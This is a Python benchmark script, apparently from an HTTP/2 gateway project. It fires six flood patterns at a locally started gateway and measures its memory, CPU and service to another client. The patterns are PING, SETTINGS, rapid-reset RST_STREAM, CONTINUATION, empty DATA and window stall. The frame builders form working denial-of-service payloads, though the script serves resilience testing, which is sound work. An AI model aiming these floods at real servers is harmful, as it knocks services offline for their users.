#!/usr/bin/env python3
"""Floods in HTTP/2 from one connection of 100,000 frames each: memory of the gateway, its CPU time beside the attacker's, and what another
client sees meanwhile.

  bench/floods.py
"""
import os
import resource
import socket
import tempfile
import threading
import urllib.request
import world

BACKEND, FRAMES = 18290, 100_000
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
# GET, http, /, and the authority.
HEAD = bytes([0x82, 0x86, 0x84, 0x01, 18]) + b"host-0.example.com"


def frame(kind, flags, stream, content=b""):
    return len(content).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + content


def floods():
    odd = [2 * n + 1 for n in range(FRAMES)]
    yield "PING", frame(6, 0, 0, b"x" * 8) * FRAMES
    yield "SETTINGS", frame(4, 0, 0) * FRAMES
    yield "RST_STREAM", b"".join(frame(1, 5, n, HEAD) + frame(3, 0, n, b"\0\0\0\x08") for n in odd)
    yield "CONTINUATION", frame(1, 0, 1, HEAD) + frame(9, 0, 1, b"\0\x01x\x01y") * FRAMES
    yield "empty DATA", frame(1, 4, 1, b"\x83" + HEAD[1:]) + frame(0, 0, 1) * FRAMES
    yield "window stall", frame(4, 0, 0, b"\0\x04\0\0\0\0") + b"".join(frame(1, 5, n, HEAD) for n in odd)


def ask(over, counts):
    while not over.is_set():
        try:
            request = urllib.request.Request(f"http://127.0.0.1:{world.PORT}/", headers={"Host": "host-0.example.com"})
            with urllib.request.urlopen(request, timeout=5) as answer:
                counts[answer.status == 200] += 1
        except OSError:
            counts[False] += 1


def attack(content):
    """Sends it all, or until it is cut off; the attacker's own CPU time."""
    before = resource.getrusage(resource.RUSAGE_THREAD)
    with socket.create_connection(("127.0.0.1", world.PORT)) as connection:
        connection.settimeout(10)
        drain = threading.Thread(target=swallow, args=(connection.dup(),))
        drain.start()
        try:
            connection.sendall(PREFACE + content)
            connection.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        drain.join(15)
    after = resource.getrusage(resource.RUSAGE_THREAD)
    return sum(after[:2]) - sum(before[:2])


def swallow(connection):
    with connection:
        try:
            while connection.recv(65536):
                pass
        except OSError:
            pass


def main():
    with tempfile.TemporaryDirectory() as folder:
        os.chmod(folder, 0o755)
        config = os.path.join(folder, "config")
        os.mkdir(config)
        world.lay_out(config, 1, BACKEND)
        backend = world.backend(BACKEND, folder)
        process, _ = world.start(config)
        try:
            over, counts = threading.Event(), {True: 0, False: 0}
            for name, content in [("PING (warms up)", frame(6, 0, 0, b"x" * 8) * FRAMES), *floods()]:
                # What the other client costs is in the gateway's time as well.
                over.clear()
                counts[True] = counts[False] = 0
                memory, cpu = world.resident_mb(process.pid), world.precise_cpu_seconds(process.pid)
                other = threading.Thread(target=ask, args=(over, counts))
                other.start()
                own = attack(content)
                over.set()
                other.join()
                spent = world.precise_cpu_seconds(process.pid) - cpu
                world.show(name, {"memory_mb": f"{memory:.1f} -> {world.resident_mb(process.pid):.1f}", "gateway_cpu_ms": round(spent * 1e3, 1),
                                  "attacker_cpu_ms": round(own * 1e3, 1), "others_answered": counts[True], "others_failed": counts[False]})
        finally:
            world.stop(process)
            world.stop(backend)


if __name__ == "__main__":
    main()
